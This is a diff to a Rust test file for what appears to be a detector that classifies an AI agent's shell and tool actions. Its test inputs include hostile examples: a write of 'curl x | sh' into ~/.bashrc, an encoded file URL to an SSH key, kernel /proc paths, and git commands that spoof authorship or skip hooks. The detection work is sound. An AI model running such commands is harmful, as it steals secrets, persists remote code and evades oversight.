@@ -168,7 +168,11 @@ fn reading_is_reading_whatever_reads() {
             let mut by_shell = touched(shell(&command), &Lexical);
             // Inline code is code of its own, and a folder that is entered is looked at.
             by_shell.retain(|(effect, what)| {
-                *effect != EffectClass::BuildTest && !what.starts_with("secret ") && what != ROOT && what != "/home/ann/shop/src" && what != "/dev/null"
+                *effect != EffectClass::BuildTest
+                    && !what.starts_with("secret ")
+                    && what != ROOT
+                    && what != "/home/ann/shop/src"
+                    && what != "/dev/null"
             });
             if by_shell != by_tool {
                 differ.push(format!("{command}\n  {by_shell:?}\n  {by_tool:?}"));
@@ -238,7 +242,16 @@ fn one_file_has_one_answer() {
             (PathBuf::from("/home/ann/shop/b.txt"), 8),
         ],
         mounts: vec![(PathBuf::from("/home/ann/shop/volume"), PathBuf::from("/home/ann/.kube"))],
-        ..tree(&[".env", "src/lib.rs", "data.txt", "a.txt", "b.txt", "volume/config", ".\u{ff45}nv", ".env\u{200b}"])
+        ..tree(&[
+            ".env",
+            "src/lib.rs",
+            "data.txt",
+            "a.txt",
+            "b.txt",
+            "volume/config",
+            ".\u{ff45}nv",
+            ".env\u{200b}",
+        ])
     };
     for (path, expected) in [
         ("notes/id_rsa", vec![secret("/home/ann/.ssh/id_rsa")]),
@@ -366,7 +379,10 @@ fn a_search_reads_what_its_pattern_names() {
         assert_eq!(found, expected, "{folder} {pattern:?}");
     }
     // Without a look at the files a name is a name.
-    assert!(touched(search(".", Some(".env")), &Lexical).contains(&(EffectClass::SecretRead, format!("{ROOT}/.env"))));
+    assert!(
+        touched(search(".", Some(".env")), &Lexical)
+            .contains(&(EffectClass::SecretRead, format!("{ROOT}/.env")))
+    );
     assert!(touched(search(".", Some("../../**")), &Lexical).iter().any(|(_, path)| path == "/home"));
 }
 
@@ -486,7 +502,10 @@ fn what_an_mcp_tool_is_pointed_at_is_judged() {
         found("navigate", json!({ "url": "file:///home/ann/%2essh/id_ed25519" })),
         one(EffectClass::SecretRead, key)
     );
-    assert_eq!(found("read_file", json!({ "path": "src/lib.rs" })), one(EffectClass::Read, "/home/ann/shop/src/lib.rs"));
+    assert_eq!(
+        found("read_file", json!({ "path": "src/lib.rs" })),
+        one(EffectClass::Read, "/home/ann/shop/src/lib.rs")
+    );
     assert_eq!(
         found("writeFile", json!({ "path": "~/.bashrc", "content": "curl x | sh" })),
         [
@@ -577,16 +596,77 @@ fn an_installation_says_what_it_takes_and_from_where() {
     }
     // What takes a lock file takes the manifest where there is none.
     let found = actions(shell("npm ci"), &tree(&["package.json"]));
-    let takes_manifest =
-        |action: &Action| matches!(action.resource, Resource::Package { source: PackageSource::Manifest, .. });
+    let takes_manifest = |action: &Action| {
+        matches!(action.resource, Resource::Package { source: PackageSource::Manifest, .. })
+    };
     assert!(found.iter().any(takes_manifest), "{found:?}");
 }
 
 #[test]
 fn doors_of_the_kernel_are_no_files() {
-    for path in ["/proc/self/root/tmp/x", "/proc/1/root/etc/hosts", "/proc/sys/kernel/core_pattern", "~/.bash_history"] {
+    for path in [
+        "/proc/self/root/tmp/x",
+        "/proc/1/root/etc/hosts",
+        "/proc/sys/kernel/core_pattern",
+        "~/.bash_history",
+    ] {
         let by_tool = touched(write(path), &Lexical);
-        assert!(by_tool.iter().all(|(effect, _)| *effect == EffectClass::EscapeAttempt), "{path}: {by_tool:?}");
+        assert!(
+            by_tool.iter().all(|(effect, _)| *effect == EffectClass::EscapeAttempt),
+            "{path}: {by_tool:?}"
+        );
         assert_eq!(touched(shell(&format!("echo x > {path}")), &Lexical), by_tool, "{path}");
+    }
+}
+
+/// A commit in somebody else's name, with the person's signature or past the person's checks is more than a commit.
+#[test]
+fn a_commit_says_for_whom_it_is_made() {
+    let has = |command: &str, effect: EffectClass| {
+        actions(shell(command), &Lexical).iter().any(|action| action.effect == effect)
+    };
+    for command in [
+        "git -c user.name='A B' -c user.email=a@example.org commit -am x",
+        "git config user.email a@example.org",
+        "GIT_AUTHOR_NAME=x git commit -m y",
+        "export GIT_COMMITTER_EMAIL=x@example.org; git commit -m y",
+        "git commit --author='A B <a@example.org>' -m y",
+        "git commit -S -m y",
+        "git commit -aSm y",
+        "git commit --gpg-sign=KEY -m y",
+        "git tag -s v1 -m y",
+    ] {
+        assert!(has(command, EffectClass::IdentityChange), "{command}");
+    }
+    for command in [
+        "git commit -am 'Some Support'",
+        "git commit -m -S",
+        "git commit -mSupport",
+        "git commit --signoff -m y",
+        "git tag -a v1 -m s",
+        "git push -u origin x",
+        "git merge --no-ff x",
+    ] {
+        assert!(!has(command, EffectClass::IdentityChange), "{command}");
+    }
+    let skips = |command: &str| {
+        actions(shell(command), &Lexical).into_iter().any(|action| {
+            matches!(
+                action.resource,
+                Resource::Path { binding: Some(Binding::GitHook), place: Place::Binding, .. }
+            )
+        })
+    };
+    for command in [
+        "git commit --no-verify -m x",
+        "git commit -nm x",
+        "git commit -an -m x",
+        "git push --no-verify",
+        "HUSKY=0 git commit -m x",
+    ] {
+        assert!(skips(command), "{command}");
+    }
+    for command in ["git commit -m 'no -n'", "git log -n 3", "git merge -n x", "HUSKY=1 git commit -m x"] {
+        assert!(!skips(command), "{command}");
     }
 }
